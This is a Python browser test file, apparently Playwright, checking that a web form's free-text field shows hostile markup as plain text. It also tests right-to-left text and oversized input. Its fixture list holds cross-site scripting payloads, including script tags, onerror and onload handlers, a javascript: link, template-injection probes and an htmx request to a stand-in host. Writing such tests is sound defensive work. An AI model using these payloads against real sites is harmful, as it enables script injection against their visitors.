"""Hostile words in a real browser: they are shown as words, and nothing of them runs."""

from __future__ import annotations

import pytest

from tests.browser.conftest import Opened

SCRIPTS = (
    "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">",
    "'\"><svg onload=document.title='owned'>{{7*7}}${7*7}</textarea><script>document.title='owned'</script>",
    '<a href="javascript:document.title=\'owned\'" hx-get="https://evil.example/" hx-trigger=load>x</a>',
)


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no scripts"])
@pytest.mark.parametrize("words", SCRIPTS)
def test_script_in_words(words: str, scripts: bool, opened: Opened) -> None:
    """Markup in a person's words is shown to the letter on every page that shows them."""
    page = opened(java_script_enabled=scripts)
    page.get_by_label("Say it in your own words").fill(words + " the invitation never arrives")
    page.get_by_role("button", name="Find out").click()
    page.wait_for_url("**/cases/**")
    case = page.url.split("/cases/")[1].split("/")[0].partition("?")[0]
    for path in (page.url, f"/cases/{case}/result", "/"):
        page.goto(path)
        page.wait_for_load_state("networkidle")
        assert page.title() != "owned"
        assert words[:5] in page.locator("main").inner_text()
    page.goto(f"/cases/{case}/result")
    assert words in page.locator("blockquote").inner_text()


def test_script_in_suggestions(opened: Opened) -> None:
    """Markup typed into the first field does not come back as markup while typing."""
    page = opened()
    with page.expect_response("**/suggest"):
        page.get_by_label("Say it in your own words").press_sequentially(SCRIPTS[0][:40] + " spark code", delay=1)
    page.wait_for_load_state("networkidle")

    assert page.title() != "owned"


def test_right_to_left(opened: Opened) -> None:
    """Arabic words stand right to left, and an override in them turns nothing else around."""
    page = opened()
    page.get_by_label("Say it in your own words").fill("\u202eلا أستطيع الدخول إلى الحساب الإعلاني")
    page.get_by_role("button", name="Find out").click()
    page.wait_for_url("**/cases/**")
    quote = page.locator("blockquote").first

    assert quote.evaluate("e => getComputedStyle(e).direction") == "rtl"
    assert page.locator("h1").evaluate("e => getComputedStyle(e).direction") == "ltr"


def test_two_hundred_kilobytes(opened: Opened) -> None:
    """A text that is too long is refused with a page that says so."""
    page = opened(java_script_enabled=False)
    page.locator("#words").evaluate("e => e.removeAttribute('maxlength')")
    page.get_by_label("Say it in your own words").fill("very long " * 20_000)
    page.get_by_role("button", name="Find out").click()

    assert page.get_by_role("heading", name="That is too long").is_visible()


def test_too_long_words_are_not_lost(opened: Opened) -> None:
    """Words that are too long are still in the field when the person comes back to shorten them."""
    page = opened()
    words = "very long " * 20_000
    page.locator("#words").evaluate("e => e.removeAttribute('maxlength')")
    page.get_by_label("Say it in your own words").fill(words)
    page.get_by_role("button", name="Find out").click()
    assert page.get_by_role("heading", name="That is too long").is_visible()
    page.goto("/")

    assert page.get_by_label("Say it in your own words").input_value() == words
